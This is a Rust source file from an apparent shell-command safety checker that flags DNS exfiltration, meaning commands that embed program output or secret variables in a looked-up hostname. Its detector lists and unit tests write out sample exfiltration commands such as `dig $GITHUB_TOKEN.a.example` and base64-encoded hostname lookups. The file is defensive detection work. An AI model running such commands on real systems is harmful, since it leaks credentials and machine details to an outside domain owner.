//! What names of hosts carry out: who looks up `$(whoami).example.com` tells the owner of the
//! domain what the program printed.

use hookloop_shell::{Command, Understood};

use super::hosts::LOOKUPS;

/// Programs that tell who works here and on what.
const TELLING: &[&str] = &[
    "whoami",
    "id",
    "uname",
    "env",
    "printenv",
    "ls",
    "pwd",
    "ps",
    "who",
    "w",
    "groups",
    "history",
    "ifconfig",
    "sw_vers",
    "lsb_release",
];

/// Programs that turn any content into letters that a name may have.
const ENCODING: &[&str] = &[
    "base64",
    "base32",
    "xxd",
    "od",
    "hexdump",
    "md5sum",
    "sha1sum",
    "sha256sum",
];

/// Ends of names that only a local network knows.
const LOCAL: &[&str] = &[
    ".local",
    ".localdomain",
    ".internal",
    ".lan",
    ".home",
    ".localhost",
    ".svc",
    ".test",
    ".arpa",
];

/// Returns the address of an operand whose host tells something about this machine, perhaps by a
/// variable that was set on the way.
pub(super) fn carried_out_by(understood: &Understood, at: usize) -> Option<String> {
    let command = &understood.commands[at];
    let earlier = &understood.commands[..at];
    let mut operands = command.operands().filter(|it| !it.known);
    operands.find_map(|it| {
        carried_out(&command.program, &it.text)
            .or_else(|| carried_out(&command.program, &with_values(&it.text, earlier)?))
    })
}

/// Returns a text in which the first variable is replaced by what was assigned to it.
fn with_values(text: &str, earlier: &[Command]) -> Option<String> {
    let at = text.find('$')?;
    let end = at + end_of_computed(&text[at..]);
    let name = text[at..end].trim_matches(['$', '{', '}']);
    let mut assigned = earlier.iter().rev().flat_map(|it| &it.env);
    let value = assigned.find(|it| it.name == name)?;
    Some(format!(
        "{}{}{}",
        &text[..at],
        value.value.text,
        &text[end..]
    ))
}

/// Returns the computed part of a host's name, if it tells the owner of the domain something about
/// this machine.
fn carried_out(program: &str, address: &str) -> Option<String> {
    if !address.contains(['$', '`']) {
        return None;
    }
    let host = address.split_once("://").map_or(address, |(_, it)| it);
    let at = host.find(['$', '`'])?;
    let (before, computed) = host.split_at(at);
    if before.contains(['/', '?', '=', '@', ':']) {
        return None;
    }
    let (computed, behind) = computed.split_at(end_of_computed(computed));
    let end = behind.find(['/', '?', ':', '#']).unwrap_or(behind.len());
    let domain = &behind[..end];
    let is_known = !domain.contains(['$', '`', '(', '*']);
    let has_domain = domain.starts_with(['.', '-', '_']) && domain[1..].contains('.');
    let is_local = LOCAL.iter().any(|it| domain.ends_with(it));
    let tells = is_known && has_domain && !is_local && tells(program, computed);
    tells.then(|| address.chars().take(100).collect())
}

/// Returns where a variable or a substitution ends that a text begins with.
fn end_of_computed(text: &str) -> usize {
    let closed_by = |open: char, close: char| {
        let mut depth = 0_usize;
        text.char_indices().find_map(|(at, letter)| {
            if letter == open {
                depth += 1;
            } else if letter == close {
                depth = depth.saturating_sub(1);
            }
            (letter == close && depth == 0).then_some(at + 1)
        })
    };
    let end = if text.starts_with("$(") {
        closed_by('(', ')')
    } else if text.starts_with("${") {
        closed_by('{', '}')
    } else if let Some(inner) = text.strip_prefix('`') {
        inner.find('`').map(|at| at + 2)
    } else {
        let is_part = |it: char| it.is_ascii_alphanumeric() || it == '_';
        text[1..].find(|it| !is_part(it)).map(|at| at + 1)
    };
    end.unwrap_or(text.len())
}

/// Returns whether a computed part of a name tells something: a program's output, or a variable
/// that contains a secret.
fn tells(program: &str, computed: &str) -> bool {
    let inner = computed.trim_matches(['$', '(', ')', '{', '}', '`', ' ']);
    if !computed.starts_with("$(") && !computed.starts_with('`') {
        return crate::secrets::names_secret(inner);
    }
    let words = inner.split(|it: char| it.is_whitespace() || "|;&()<>\"'`".contains(it));
    let mut words = words.filter(|it| !it.is_empty());
    let first = words.clone().next().unwrap_or("");
    // A machine's own name in a domain is usually that of the machine itself.
    let is_name = first == "hostname" && words.clone().count() == 1;
    TELLING.contains(&first)
        || is_name && LOOKUPS.contains(&program)
        || words.any(|it| ENCODING.contains(&it))
}

#[cfg(test)]
mod tests {
    use super::carried_out;

    /// HT-40: what a program prints, or a variable contains that is named as a secret, is carried
    /// out by a name that is looked up.
    #[test]
    fn names_carry_out_what_is_computed() {
        for (program, address) in [
            ("dig", "$(whoami).a.example"),
            ("dig", "x.$(whoami).a.example"),
            ("nslookup", "$(hostname).a.example"),
            ("host", "`id -un`.a.example"),
            ("ping", "$(cat /etc/hostname | base64).a.example"),
            ("curl", "http://$(whoami).a.example/x"),
            ("curl", "https://$(cat notes | xxd -p)-1.a.example"),
            ("dig", "$GITHUB_TOKEN.a.example"),
            ("dig", "${API_KEY}.a.example"),
        ] {
            assert!(carried_out(program, address).is_some(), "{address}");
        }
    }

    /// HT-40: a host that is looked up elsewhere, or only here, carries nothing out.
    #[test]
    fn hosts_that_are_computed_are_left_alone() {
        for (program, address) in [
            ("curl", "http://$(minikube ip):30000/"),
            ("curl", "https://$HOST/api"),
            ("curl", "https://$(hostname).a.example/health"),
            ("ping", "$(hostname).local"),
            ("dig", "$(cat domain.txt)"),
            ("dig", "$(cat name.txt).a.example"),
            ("dig", "$(date +%s).a.example"),
            ("curl", "https://a.example/$(whoami)"),
            ("curl", "https://a.example/?u=$(whoami).b.c"),
            ("curl", "https://$ENVIRONMENT.a.example"),
            ("curl", "https://a.example"),
        ] {
            assert!(carried_out(program, address).is_none(), "{address}");
        }
    }
}
